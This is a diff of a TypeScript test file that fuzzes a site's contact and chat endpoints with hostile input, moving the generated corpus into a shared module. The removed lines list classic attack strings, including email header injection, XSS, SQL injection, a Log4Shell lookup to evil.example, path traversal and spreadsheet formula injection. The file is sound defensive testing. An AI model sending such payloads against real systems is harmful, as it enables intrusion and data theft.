@@ -13,16 +13,17 @@ import { backgroundWorkSettled } from "@/lib/inquiries/background";
 import { closeEmbeddedDatabases, getEmbeddedDatabase } from "@/lib/inquiries/embedded-db";
 import { inquiryServiceValues } from "@/lib/inquiries/service-options";
 import { resetRateLimiters } from "@/lib/rate-limit/policies";
+import { anyBytes, CONTENT_TYPES, chatBody, formEncoded, inquiryBody as generatedInquiry, SEED } from "../support/hostile-corpus.mjs";
 import { startFormSubmitStub } from "./support/formsubmit";
 
 /**
  * Hostile and malformed input against the real route handlers, the real embedded database and a FormSubmit
- * stand-in: a generated corpus (fast-check, fixed seed) and fixed cases. Nothing may answer 500 or above; every
- * refusal is a 4xx with a message; every accepted inquiry is stored exactly once, clean, and forwarded once.
- * The counts are printed at the end (the README quotes them).
+ * stand-in: a generated corpus (tests/support/hostile-corpus.mjs, which tests/harness/hostile-input.mjs sends over HTTP)
+ * and fixed cases. Nothing may answer 500 or above; every refusal is a 4xx with a message; every accepted inquiry is
+ * stored exactly once, clean, and forwarded once.
+ * The counts are printed at the end (docs/security.md quotes them).
  */
 
-const SEED = 20;
 const savedEnv = { ...process.env };
 let root: string;
 let formsubmit: Awaited<ReturnType<typeof startFormSubmitStub>>;
@@ -85,67 +86,8 @@ async function postContact(init: RequestInit, label: string): Promise<Sent> {
 }
 
 const json = (body: unknown): RequestInit => ({ headers: { "content-type": "application/json" }, body: typeof body === "string" ? body : JSON.stringify(body) });
-const urlencoded = (body: Record<string, unknown>): RequestInit => ({
-  headers: { "content-type": "application/x-www-form-urlencoded" },
-  body: new URLSearchParams(Object.entries(body).map(([key, value]) => [key, typeof value === "string" ? value : (JSON.stringify(value) ?? "")])).toString(),
-});
-
-const NASTY_STRINGS = [
-  "",
-  " ",
-  "\u0000",
-  "Nul\u0000byte",
-  "\r\n",
-  "Bob\r\nBcc: x@evil.example",
-  "\uD800",
-  "\uDFFFlone",
-  "\u202Egnp.exe",
-  "<script>alert(1)</script>",
-  "' OR 1=1 --",
-  "${jndi:ldap://evil.example/a}",
-  "../../etc/passwd",
-  "=HYPERLINK(\"http://evil.example\")",
-  "\uFEFF\u200B\u2028\u2029",
-];
-
-/** Any UTF-16 code unit: NUL, every control, and halves of surrogate pairs on their own. */
-const codeUnit = fc.integer({ min: 0, max: 0xffff }).map((code) => String.fromCharCode(code));
-
-const anyValue: fc.Arbitrary<unknown> = fc.oneof(
-  fc.string({ unit: codeUnit, maxLength: 300 }),
-  fc.string({ unit: "binary", maxLength: 300 }),
-  fc.string({ unit: "grapheme", maxLength: 60 }),
-  fc.constantFrom(...NASTY_STRINGS),
-  fc.integer(),
-  fc.double(),
-  fc.boolean(),
-  fc.constant(null),
-  fc.array(fc.string(), { maxLength: 3 }),
-  fc.dictionary(fc.string({ maxLength: 10 }), fc.string({ maxLength: 10 }), { maxKeys: 3 }),
-);
-
-/** Mostly field-shaped values (so that many are accepted), spiked with anything at all. */
-const mostly = <T,>(likely: fc.Arbitrary<T>) => fc.oneof({ weight: 4, arbitrary: likely }, { weight: 1, arbitrary: anyValue });
-const nameLike = mostly(fc.string({ unit: codeUnit, minLength: 1, maxLength: 60 }));
-const emailLike = mostly(fc.stringMatching(/^[a-z0-9]{1,12}([._+-][a-z0-9]{1,6})?@[a-z0-9]{1,12}\.[a-z]{2,6}$/));
-const messageLike = mostly(fc.string({ unit: codeUnit, minLength: 1, maxLength: 800 }));
-const optionalField = (likely: fc.Arbitrary<string>) => mostly(likely);
-
-const inquiryBody = fc
-  .record(
-    {
-      name: nameLike,
-      email: emailLike,
-      message: messageLike,
-      phone: optionalField(fc.constantFrom("+63 917 000 1234", "(604) 555-0199", "+1 604\r\n555 0199", "")),
-      service: optionalField(fc.constantFrom(...inquiryServiceValues, "")),
-      _honey: fc.oneof({ weight: 9, arbitrary: fc.constant("") }, { weight: 1, arbitrary: anyValue }),
-      _captcha: optionalField(fc.constant("false")),
-      _subject: optionalField(fc.constantFrom("New inquiry", "New\u0000 inquiry\r\nBcc: x@evil.example")),
-    },
-    { requiredKeys: ["name", "email", "message"] },
-  )
-  .chain((body) => fc.dictionary(fc.oneof(fc.string({ maxLength: 12 }), fc.constantFrom("__proto__", "constructor", "prototype", "toString")), anyValue, { maxKeys: 3 }).map((extra) => ({ ...extra, ...body })));
+const urlencoded = (body: Record<string, unknown>): RequestInit => ({ headers: { "content-type": "application/x-www-form-urlencoded" }, body: formEncoded(body) });
+const inquiryBody = generatedInquiry(inquiryServiceValues);
 
 beforeAll(async () => {
   root = mkdtempSync(path.join(os.tmpdir(), "northtide-hostile-"));
@@ -206,9 +148,8 @@ describe("a generated corpus (fast-check, seed 20)", () => {
       }),
       { seed: SEED, numRuns: 100 },
     );
-    const contentTypes = ["application/json", "application/x-www-form-urlencoded", "text/plain", "multipart/form-data; boundary=x", "application/xml", ""];
     await fc.assert(
-      fc.asyncProperty(fc.uint8Array({ maxLength: 3000 }), fc.constantFrom(...contentTypes), async (bytes, type) => {
+      fc.asyncProperty(anyBytes, fc.constantFrom(...CONTENT_TYPES), async (bytes, type) => {
         await postContact({ headers: type ? { "content-type": type } : {}, body: bytes }, `${bytes.length} bytes as ${type || "no type"}`);
       }),
       { seed: SEED, numRuns: 100 },
@@ -216,11 +157,6 @@ describe("a generated corpus (fast-check, seed 20)", () => {
   });
 
   it("chat: any body gets a clear answer", { timeout: 120_000 }, async () => {
-    const chatBody = fc.oneof(
-      fc.record({ message: anyValue, history: fc.oneof(anyValue, fc.array(fc.record({ role: fc.oneof(fc.constantFrom("user", "bot"), anyValue), text: anyValue }), { maxLength: 12 })) }, { requiredKeys: [] }),
-      fc.record({ message: fc.string({ unit: "binary", minLength: 1, maxLength: 1200 }) }),
-      fc.jsonValue({ maxDepth: 3 }),
-    );
     await fc.assert(
       fc.asyncProperty(chatBody, async (body) => {
         expectClear(await send(chatPost, "http://localhost/api/chat/", json(body)), `chat ${JSON.stringify(body).slice(0, 200)}`);
